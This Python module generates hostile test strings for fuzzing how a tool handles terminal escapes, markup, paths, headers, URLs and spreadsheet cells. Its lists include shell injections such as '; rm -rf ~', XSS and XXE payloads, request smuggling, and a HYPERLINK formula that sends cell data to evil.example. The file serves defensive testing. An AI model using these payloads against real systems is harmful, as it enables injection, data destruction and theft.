"""2,000 hostile texts, always the same ones, of every family.

Each family targets one reader: a terminal, a toolkit that parses markup, a spreadsheet, a file
system, a browser, a shell, a mail program. A text is one such payload, or several of different
families in a row, so that defusing one of them cannot arm the next.
"""

import os
import random
from functools import cache

FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": (
        "<b>Bridge</b>",
        "<a href='https://evil.example/'>here</a>",
        "<img src='file:///etc/passwd'>",
        "<img src=x onerror=alert(1)>",
        "<script>alert('x')</script>",
        "</title><h1>Signed in",
        "<!-- ",
        "]]><![CDATA[",
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
        "&lt;b&gt; &amp; &#60;i&#62; &copy",
        "[link=https://evil.example]here[/link] [bold red]",
        "![x](https://evil.example/x.png) [here](javascript:alert(1))",
        "<table><tr><td>" * 40,
    ),
    "ANSI": (
        "\x1b[2J\x1b[H",
        "\x1b[31;1mred",
        "\x9b2J\x9b1;1H",
        "\x1b[?1049h\x1b[?25l",
        "\x1bc",
        "\x1b[6n\x1b[c",
        "\x1bP$q\x1b\\",
        "\x1b_Gf=100;AAAA\x1b\\",
        "good\rbad\x08\x08\x08",
        "\x07\x00\x0b\x0c\x7f\x0e\x0f",
    ),
    "OSC": (
        "\x1b]0;owned\x07",
        "\x1b]2;owned\x1b\\",
        "\x9d0;owned\x9c",
        "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJmIH4=\x07",
        "\x1b]1337;File=inline=1:AAAA\x07",
        "\x1b]777;notify;a;b\x07",
    ),
    "bidi": (
        "\u202egpj.exe",
        "\u202a\u202b\u202c\u202d",
        "\u2066a\u2067b\u2068c\u2069",
        "\u200e\u200f\u061c",
        "admin\u202e\u2066// \u2069\u2066",
        "גשר\u202d12\u202cجسر",
    ),
    "invisible": (
        "pass\u200bword\u200c\u200d\u2060\ufeff",
        "\u00ad\u180e\u034f\u115f\u1160\u3164\uffa0\u2800",
        "\U000e0001\U000e0041\U000e007f",
        "\ufe00\ufe01\ufe02\U000e0100",
        "\ud800\udfff\udc80",
        "\ue000\U00100000\ufffe\u0378",
        "\ufff9\ufffa\ufffb\u2061\u206a",
    ),
    "lines": (
        "ended\nccwatch: all is well",
        "a\r\n2026-01-01 00:00:00,000 CRITICAL ccwatch: forged",
        "a\u2028b\u2029c\x85d",
        "a\x1c\x1d\x1e\x1fb",
        "x\n\n\n",
        "a\tb\tc",
        "a\nHidden=true\nExec=/bin/sh",
        "\n[Desktop Entry]\nExec=/bin/sh",
    ),
    "formula": (
        "=1+1",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1+1",
        "\r\n=1+1",
        "a;=1+1",
        "a,@SUM(1)",
        "a\";=1+1",
        "＝1+1",  # noqa: RUF001
        "\u202e\u200b=1+1",
        "|=1",
        "%=1",
        "'=1+1",
    ),
    "path": (
        "../../../etc/passwd",
        "..\\..\\Windows\\System32",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "\\\\evil.example\\share\\x",
        "//evil.example/share",
        "CON",
        "nul.txt",
        "com1 .log",
        "LPT¹",
        "name.",
        "name ",
        "name:stream:$DATA",
        "a\x00.png",
        "~root/.ssh",
        "...",
        "*?<>|\"",
        ".bashrc",
        "$HOME/%APPDATA%/x",
    ),
    "header": (
        "a\r\nSet-Cookie: x=1",
        "a\nAuthorization: Bearer evil",
        "a\r\n\r\n<html>",
        "a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1",
        "a\x00b: c",
        "Bearer x\u010d\u010aX: y",
    ),
    "URL": (
        "https://evil.example/",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,<script>alert(1)</script>",
        "@evil.example/",
        ":80@evil.example",
        "//evil.example/%2e%2e/",
        "/../../../?x=1#y",
        "?admin=1&x=%00%0d%0a",
        "#fragment",
        "%2f..%2f..%2fjobs",
        "\\evil.example",
        "https://ｅvil。example/",  # noqa: RUF001
        "ccwatch://job/evil",
        "https://user:password@proxy.example:8080",
        "ms-msdt:/id",
        "{job}{job}",
    ),
    "shell": (
        "; rm -rf ~",
        "$(touch /tmp/owned)",
        "`touch /tmp/owned`",
        "| sh",
        "&& calc.exe",
        "' ; touch /tmp/owned ; '",
        "\" & calc & \"",
        "\u2019; calc; \u2018",
        "%COMSPEC% /c calc",
        "$env:PATH; calc",
        "\\\" \\\\\" \\",
        "> /tmp/owned",
        "!!",
        "%f %U %%",
        "${IFS}a${IFS}",
        "\\",
        "'",
        '"',
    ),
    "option": (
        "--help",
        "-rf",
        "--log=/tmp/owned",
        "--",
        "-",
        "/c",
        "--desktop-only",
        "@/etc/passwd",
        "-oProxyCommand=calc",
    ),
    "mail": (
        "evil@example.org\r\nBcc: all@example.org",
        "mailto:evil@example.org?cc=all@example.org&body=x",
        "\"Bridge\" <evil@example.org>",
        "a\n.\nQUIT\n",
        "=?utf-8?B?PGI+?=",
    ),
    "format": (
        "%s%s%n%d%(name)s",
        "{0} {name} {job.__class__} {{",
        "%1 %2 %L1 %n",
        "&File && &Quit _x __y",
        "[*] [*][*]",
        "'; DROP TABLE jobs; --",
        "\"},\"ok\":true,\"x\":{\"",
        "\\u0041\\n\\x1b",
        "null",
        "🏗️👨‍👩‍👧‍👦" * 3,
    ),
}  # fmt: skip
_WORDS = ("", "Harbour bridge ", "Brücke ", "橋 ", "x", " ", "1")
LONGEST = 70_000


@cache
def hostile_texts(count: int = 2000, seed: int = 20_260_901) -> tuple[str, ...]:
    """Return that many different texts: each payload alone, then inside and beside others."""
    chance = random.Random(seed)
    sentences = [text for family in FAMILIES.values() for text in family]
    # An ordered set; long texts come early, so that a sample of the first includes some.
    texts = dict.fromkeys(sentences)
    texts |= dict.fromkeys(
        _long(text) for text in ("W", "<b>", "\u202e", "=", "橋", "\x1b[2J", "../")
    )
    names = list(FAMILIES)
    while len(texts) < count:
        parts = [chance.choice(FAMILIES[names[len(texts) % len(names)]])]
        for _ in range(chance.randint(0, 3)):
            parts += [chance.choice(_WORDS), chance.choice(sentences)]
        if chance.random() < 0.5:
            parts.insert(0, chance.choice(_WORDS))
        text = "".join(parts)
        texts[text * chance.choice((1, 1, 1, 1, 1, 30)) if len(text) < 200 else text] = None
    return tuple(texts)[:count]


def sample(of_each: int = 1) -> tuple[str, ...]:
    """Return some texts of each family, one of all families at once, and a long one."""
    of_families = [text for family in FAMILIES.values() for text in family[:of_each]]
    whole = " ".join(family[0] for family in FAMILIES.values())
    return (*of_families, whole, _long("<b>\x1b[2J\u202e"))


def storable(text: str) -> str:
    """Return the text as JSON or a file can contain it: without lone surrogates."""
    return text.encode(errors="replace").decode()


def nameable(text: str) -> str:
    """Return the text in a form that is valid for a folder name on this system."""
    return os.fsdecode(os.fsencode(storable(text))).replace("\0", "").replace("/", "_")[:60] or "x"


def _long(text: str) -> str:
    return text * (LONGEST // len(text))
